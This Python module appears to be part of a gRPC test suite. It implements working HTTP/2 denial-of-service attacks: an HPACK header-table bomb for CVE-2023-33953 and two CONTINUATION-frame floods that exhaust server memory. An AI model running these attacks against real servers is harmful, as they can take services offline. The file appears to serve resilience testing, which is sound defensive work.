"""Attacks by what stands before a call's messages: its headers (attacks.py has the others)."""

from __future__ import annotations

import sys
from typing import TYPE_CHECKING, Final

from hyperframe.frame import ContinuationFrame, HeadersFrame

from tests.attack.tally import BURST, again
from tests.attack.wire import Connection, headers

if TYPE_CHECKING:
    from tests.attack.tally import Tally

FULL_BURSTS: Final = 50
"""More frames than gRPC's core takes."""


async def hpack_bomb(address: str, tally: Tally) -> None:
    """CVE-2023-33953: one header in the table, named over and over: 16 KB that mean 60 MB."""

    async def act(connection: Connection) -> None:
        head = connection.block(headers())
        value = b"a" * 4_000
        # Literal with incremental indexing, new name: entry 62 from then on.
        entry = b"\x40\x01x\x7f" + integer(len(value) - 127) + value
        connection.headers(head + entry, end_stream=True)
        while True:
            connection.headers(connection.block(headers()) + b"\xbe" * 15_000, end_stream=True)
            tally.acts += 1
            await connection.flush()

    await again(address, tally, act)


def integer(value: int) -> bytes:
    """HPACK's continuation of an integer."""
    found = b""
    while value > 127:
        found += bytes((value & 127 | 128,))
        value >>= 7
    return found + bytes((value,))


async def continuation_flood(address: str, tally: Tally) -> None:
    """Headers that never end."""
    await _continuation(address, tally, sys.maxsize)


async def continuation_again(address: str, tally: Tally) -> None:
    """The same on one connection after the other, each until gRPC's core takes no more: 16 MB as
    HTTP/2 counts them, from a peer that does not acknowledge the server's limit.
    """
    await _continuation(address, tally, FULL_BURSTS)


async def _continuation(address: str, tally: Tally, bursts: int) -> None:
    """`bursts` on each connection."""

    async def act(connection: Connection) -> None:
        stream_id = connection.stream()
        connection.write(HeadersFrame(stream_id, data=connection.block(headers())).serialize())
        for _ in range(bursts):
            for number in range(BURST):
                filler = b"\x00\x04" + number.to_bytes(4, "big").hex()[:4].encode() + b"\x05value"
                connection.write(ContinuationFrame(stream_id, data=filler * 100).serialize())
            tally.acts += BURST
            await connection.flush()

    await again(address, tally, act)
